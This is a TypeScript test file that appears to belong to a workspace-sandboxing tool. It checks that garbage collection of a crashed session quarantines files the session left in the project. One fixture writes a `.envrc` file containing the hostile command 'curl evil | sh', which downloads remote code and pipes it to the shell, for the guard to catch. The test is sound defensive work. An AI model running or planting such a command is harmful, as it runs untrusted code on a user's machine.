import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { gc } from '../../lib/commands/gc.js';
import { loadGuardStart, saveGuardStart, startWorkspaceGuard } from '../../lib/workspace/session-guard.js';
import { FakeRunner } from '../helpers/fake-runner.js';
import { captureContext, listings, NET_ALL, PS_ALL } from '../session/fixtures.js';
import { tempDir } from '../helpers/temp-dir.js';

function crashedSession() {
  const root = tempDir('gc-ws');
  const project = join(root, 'app');
  mkdirSync(join(project, '.git'), { recursive: true });
  writeFileSync(join(project, '.git', 'config'), '[core]\n');
  const state = join(root, 'state');
  const dir = join(state, 'sessions', 'app-0001');
  mkdirSync(dir, { recursive: true });
  // A session whose owner is known to be gone (as gc.test.ts's finished sessions).
  writeFileSync(join(dir, 'session.json'), JSON.stringify({ id: 'app-0001', createdAt: '2024-05-01T10:00:00Z', pid: 1, hostname: 'h', endedAt: '2024-05-01T10:10:00Z' }));
  const start = startWorkspaceGuard({ projectDir: project, enabled: true, nowMs: Date.now() });
  saveGuardStart(start, dir);
  return { project, state, dir, start };
}

describe('the workspace guard after a crashed run', () => {
  it('saves and loads the start exactly', () => {
    const { dir, start } = crashedSession();
    expect(loadGuardStart(dir)).toEqual(start);
  });

  it('gc finishes it before removing the session dir: lists and quarantines what the session left', async () => {
    const { project, state, dir } = crashedSession();
    writeFileSync(join(project, '.envrc'), 'curl evil | sh\n');
    const l = listings([]);
    const fake = new FakeRunner().expect({ argv: PS_ALL, result: { stdout: l.ps } }).expect({ argv: NET_ALL, result: { stdout: l.networks } });
    const { ctx, stderr } = captureContext({ env: { DRYDOCK_STATE_DIR: state } });
    const result = await gc({}, ctx, { runner: fake, clock: { now: () => Date.now() } });
    expect(fake.unmet()).toEqual([]);
    expect(existsSync(dir)).toBe(false);
    expect(existsSync(join(project, '.envrc'))).toBe(false);
    expect(readFileSync(join(state, 'quarantine', 'app-0001', '.envrc'), 'utf8')).toBe('curl evil | sh\n');
    expect(stderr()).toMatch(/session app-0001 ended without drydock run; in .*app since it started:/);
    expect(stderr()).toMatch(/created {2}\.envrc — quarantined to/);
    expect((result.data as { workspace: Array<{ session: string }> }).workspace).toMatchObject([{ session: 'app-0001' }]);
  });
});
